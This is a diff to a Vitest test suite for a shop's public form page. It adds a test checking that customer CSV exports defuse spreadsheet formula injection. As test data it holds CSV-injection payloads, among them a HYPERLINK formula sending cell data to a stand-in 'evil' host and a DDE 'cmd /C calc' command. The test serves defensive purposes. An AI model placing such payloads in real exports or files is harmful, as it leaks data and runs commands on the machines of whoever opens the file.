@@ -1,5 +1,7 @@
 import { describe, expect, it } from 'vitest';
+import { evaluateAll } from '../../src/features/evaluations/evaluate-all.ts';
 import { fillIn, formShop, signUp } from '../support/form-shop.ts';
+import { readCsvRows } from '../support/read-csv-strictly.ts';
 import { caller } from '../support/serve-shop.ts';
 
 interface Customers {
@@ -14,6 +16,9 @@ describe('R005 the page of a form', () => {
   it('shows what is asked in the reader’s language, without cookies or scripts, and thanks whoever fills it in', async () => {
     const shop = await formShop({ store: '南山店', reward: 50 });
     const { served, by, path } = shop;
+    const { folder, clock } = served.shop;
+    expect((await by.send('POST', '/schemes', { template: 'supermarket' })).statusCode).toBe(201);
+    await evaluateAll(folder, { asOf: null, clock: () => clock.now });
     const zh = await served.app.inject({ url: path, headers: { 'accept-language': 'zh-CN,zh;q=0.9' } });
     expect(zh.statusCode).toBe(200);
     expect(zh.body).toContain('<html lang="zh-CN">');
@@ -47,6 +52,7 @@ describe('R005 the page of a form', () => {
         registeredAt: '2026-01-15',
       },
     });
+    expect((await by.get(`/customers/${id}`)).json()).toMatchObject({ tier: 'normal' });
     expect((await by.get(`/customers/${id}/history`)).json()).toMatchObject({
       versions: [{ author: 'form:会员登记' }],
     });
@@ -78,6 +84,17 @@ describe('R005 the page of a form', () => {
     expect((await shop.by.get('/customers')).json<Customers>().customers).toEqual([]);
     expect((await shop.by.get('/proposals')).json()).toEqual({ proposals: [], next: null });
     expect(shop.served.faults).toEqual([]);
+  });
+
+  it('keeps what a spreadsheet would run harmless in exports (FORM-01, FORM-03, FORM-05, FORM-09)', async () => {
+    const shop = await formShop();
+    const names = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '@SUM(1+9)', '＝1+1'];
+    for (const [n, name] of names.entries()) await fillIn(shop, { name, phone: `1380013800${n}` });
+    const asked = await shop.by.send('POST', '/exports', { what: 'customers' });
+    const { job } = asked.json<{ job: string }>();
+    await shop.by.get(`/jobs/${job}/events`);
+    const rows = readCsvRows((await shop.by.get(`/exports/${job}/file`)).body);
+    expect(rows.map(({ name }) => name)).toEqual(names.map((name) => `'${name}`));
   });
 
   it('answers the same, whether somebody is known or not', async () => {
